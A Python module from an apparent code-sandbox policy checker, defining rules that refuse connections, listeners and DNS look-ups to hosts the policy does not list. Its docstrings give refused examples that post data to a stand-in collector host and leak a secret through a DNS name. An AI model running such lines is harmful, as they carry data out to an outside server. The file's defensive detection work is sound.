"""FH2xx: connections, listeners and name look-ups that the policy does not list."""

from __future__ import annotations

from typing import TYPE_CHECKING

from fumehood.check.rules.rule import Rule, toml
from fumehood.policy.reach import host_covers

if TYPE_CHECKING:
    from fumehood.check.need import Need
    from fumehood.execution import Verdict
    from fumehood.policy import Policy


def _with_port(value: str) -> str:
    """Answer `host:port`, the usual port where none is said."""
    return value if value.rpartition(":")[2].isdigit() and ":" in value else f"{value}:443"


class _NetworkRule(Rule):
    """A rule that judges a host against `network.allow`."""

    clause = "network.allow"
    owasp = ("LLM02:2025 Sensitive Information Disclosure", "LLM06:2025 Excessive Agency")

    def judge(self, need: Need, policy: Policy) -> Verdict | None:
        if not policy.network.allow:
            return "refuse"
        if need.value is None or need.confidence != "resolved":
            return policy.check.unknown  # type: ignore[return-value]
        return (
            "allow" if any(host_covers(entry, _with_port(need.value)) for entry in policy.network.allow) else "refuse"
        )

    def allow(self, need: Need) -> str:
        return f"network.allow = [{toml(_with_port(need.value) if need.value else 'HOST:443')}]"


class ConnectToHost(_NetworkRule):
    """The code connects to a host that `network.allow` does not list.

    ## Why is this refused?
    A connection is how data leaves and how further code comes in. With no host listed there is no network at
    all, so the code would fail in any case; with some listed, every other one stays closed.

    ## Refused
    ```python
    requests.post("https://collector.example", data=rows)
    ```

    ## Allowed
    ```python
    pandas.read_csv("data/rows.csv")
    ```

    ## What to do
    Give the data to the run with `--data`, or grant the one host that is needed: `network.allow =
    ["api.example.org:443"]`.
    """

    id = "FH201"
    name = "connect-to-host"
    capabilities = ("net.connect",)
    weight = 75
    cwe = (918, 201)

    def why(self, need: Need) -> str:
        if need.value is None:
            return "The code opens network connections, and the policy lists no host that it may reach."
        return f"The code connects to {need.value}, a host that the policy does not list."

    def fix(self, need: Need) -> str:
        del need
        return "Work on files given with --data; fetch what is needed before the run."


class ListenForConnections(_NetworkRule):
    """The code opens a port for others to connect to.

    ## Why is this refused?
    Nothing can reach a sandbox from outside, and a listener is a back door wherever something can.

    ## Refused
    ```python
    http.server.HTTPServer(("", 8000), Handler).serve_forever()
    ```

    ## Allowed
    ```python
    print(report)
    ```

    ## What to do
    Print or write the result instead of serving it.
    """

    id = "FH202"
    name = "listen-for-connections"
    capabilities = ("net.listen",)
    weight = 72
    cwe = (668,)

    def why(self, need: Need) -> str:
        return f"The code opens {need.value or 'a port'} for others to connect to."

    def fix(self, need: Need) -> str:
        del need
        return "Print the result, or write it below out/, instead of serving it."


class ResolveName(_NetworkRule):
    """The code looks a host name up.

    ## Why is this refused?
    A look-up carries data by itself: the name asked for reaches a server of the asker's choice.

    ## Refused
    ```python
    socket.gethostbyname(secret + ".collector.example")
    ```

    ## Allowed
    ```python
    ipaddress.ip_address("10.0.0.1")
    ```

    ## What to do
    Leave it out; a host that `network.allow` lists is resolved by the proxy.
    """

    id = "FH203"
    name = "resolve-name"
    capabilities = ("net.resolve",)
    weight = 65
    cwe = (201,)

    def why(self, need: Need) -> str:
        return f"The code looks up {need.value or 'a host name'}, which by itself can carry data out."

    def fix(self, need: Need) -> str:
        del need
        return "Leave the look-up out."


RULES: tuple[type[Rule], ...] = (ConnectToHost, ListenForConnections, ResolveName)
